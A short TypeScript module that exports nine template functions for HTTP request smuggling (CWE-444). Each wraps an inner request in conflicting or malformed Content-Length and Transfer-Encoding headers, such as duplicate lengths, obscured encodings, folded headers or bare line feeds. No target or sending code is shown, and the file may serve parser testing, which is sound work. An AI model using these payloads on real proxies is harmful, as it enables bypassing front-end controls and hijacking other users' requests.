// Requests within requests: what makes a proxy and the service behind it cut the same bytes at different places (CWE-444).

/** Headers and bodies that two readers might cut into requests at different places. */
export const WAYS_TO_HIDE: Record<string, (inner: string) => string> = {
  'length-and-chunked': (inner) =>
    `Content-Length: ${5 + inner.length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${inner}`,
  'chunked-and-length': (inner) => `Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n${inner}`,
  'two-lengths': (inner) => `Content-Length: 0\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
  'obscured-encoding': (inner) =>
    `Content-Length: ${5 + inner.length}\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n${inner}`,
  'space-before-colon': (inner) =>
    `Content-Length: ${5 + inner.length}\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n${inner}`,
  'tab-in-encoding': (inner) =>
    `Content-Length: ${5 + inner.length}\r\nTransfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n${inner}`,
  'bare-line-feeds': (inner) =>
    `Content-Length: ${7 + inner.length}\r\nX: y\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${inner}`,
  'folded-header': (inner) =>
    `Content-Length: ${5 + inner.length}\r\nX: y\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n${inner}`,
  'signed-length': (inner) => `Content-Length: +${inner.length}\r\n\r\n${inner}`,
};
